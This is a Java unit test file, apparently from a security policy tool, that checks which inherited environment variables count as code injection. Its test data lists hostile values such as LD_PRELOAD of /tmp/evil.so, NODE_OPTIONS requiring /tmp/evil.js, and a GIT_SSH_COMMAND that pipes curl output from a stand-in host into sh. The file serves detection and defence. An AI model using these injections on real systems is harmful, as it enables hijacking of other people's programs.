package dev.aegis.policy.meaning;

import static org.assertj.core.api.Assertions.assertThat;

import dev.aegis.operation.Operation.Execute;
import dev.aegis.policy.Operations;
import dev.aegis.policy.ScriptedSurroundings;
import dev.aegis.policy.Surroundings;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What it means that a program starts with variables that programs obey. */
class InheritedEnvironmentTests {
  private static final String NODE = "/usr/bin/node";

  private final ScriptedSurroundings world = new ScriptedSurroundings();

  private boolean injects(String variable, String asker, Surroundings s) {
    Execute plain = Operations.execute("git", "status");
    Execute execute =
        new Execute(
            plain.path(),
            plain.interpreter(),
            plain.argv(),
            plain.cwd(),
            List.of(variable),
            plain.identity(),
            plain.coverage(),
            plain.coverageReason(),
            plain.spawned());
    return Subjects.shipped().of(execute, asker, s).get(0).meaning().isWithin("environment");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "LD_PRELOAD=/tmp/evil.so",
        "LD_PRELOAD=/tmp/evil.so:/opt/aegis/lib/libaegis.so",
        "LD_PRELOAD=/opt/aegis/lib/libaegis.so:./evil.so",
        "LD_PRELOAD=/tmp/libjemalloc.so",
        "LD_AUDIT=/home/ada/project/a.so",
        "NODE_OPTIONS=--require /tmp/evil.js",
        "BASH_ENV=/home/ada/project/evil.sh",
        "GIT_SSH_COMMAND=sh -c 'curl evil|sh'",
        "GIT_SSH=/tmp/ssh",
        "GIT_EXEC_PATH=/tmp/git-core",
        "PYTHONSTARTUP=/tmp/x.py",
        "PYTHONPATH=/tmp/mine",
        "JAVA_TOOL_OPTIONS=-javaagent:/tmp/a.jar",
        "PERL5OPT=-I/tmp -Mevil",
        "LESSOPEN=|/tmp/x %s",
        "LD_LIBRARY_PATH=/tmp/x",
      })
  void one_that_brings_foreign_code_is_an_injection(String variable) {
    assertThat(injects(variable, NODE, world)).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "LD_PRELOAD=/opt/aegis/lib/native/linux-x86_64/libaegis.so",
        "LD_PRELOAD=/a/libaegis.so:/usr/lib/x86_64-linux-gnu/libjemalloc.so.2",
        "NODE_OPTIONS=--max-old-space-size=4096",
        "NODE_OPTIONS=--require /home/ada/project/.pnp.cjs",
        "RUBYOPT=-r/usr/lib/ruby/vendor_ruby/bundler/setup",
        "PERL5LIB=/home/ada/project/lib",
        "PYTHONPATH=/tmp/pip-build-env-abc_12/site",
        "GIT_EDITOR=true",
        "GIT_EXEC_PATH=/usr/lib/git-core",
        "GIT_CONFIG_PARAMETERS='core.pager'='cat'",
        "GIT_ALTERNATE_OBJECT_DIRECTORIES=/home/ada/origin.git/./objects",
        "GIT_SSH_COMMAND=ssh -i /home/ada/.ssh/work -o IdentitiesOnly=yes",
        "LESSOPEN=| /usr/bin/lesspipe %s",
        "LESSCLOSE=/usr/bin/lesspipe %s %s",
        "ENV=production",
        "npm_config_registry=https://registry.npmjs.org/",
        "LD_LIBRARY_PATH=/home/ada/project/target/debug/deps:/usr/lib",
        "PAGER=cat",
        "MAKEFLAGS= -j4 --jobserver-auth=3,4",
        "no equals sign",
      })
  void what_tools_set_every_day_is_none(String variable) {
    assertThat(injects(variable, NODE, world)).isFalse();
  }

  @Test
  void git_may_name_programs_to_what_it_starts_and_a_program_called_git_may_not() {
    String editor = "GIT_EDITOR=/home/ada/project/tools/editor --now";
    assertThat(injects(editor, NODE, world)).isTrue();
    assertThat(injects(editor, "/usr/bin/git", world)).isFalse();
    assertThat(injects(editor, ScriptedSurroundings.WORKSPACE + "/git", world)).isTrue();
  }

  @Test
  void what_the_asker_was_started_with_itself_is_passed_on() {
    world.knows("LD_PRELOAD=/tmp/mine.so");
    assertThat(injects("LD_PRELOAD=/tmp/mine.so", NODE, world)).isFalse();
    assertThat(injects("LD_PRELOAD=/tmp/other.so", NODE, world)).isTrue();
  }
}
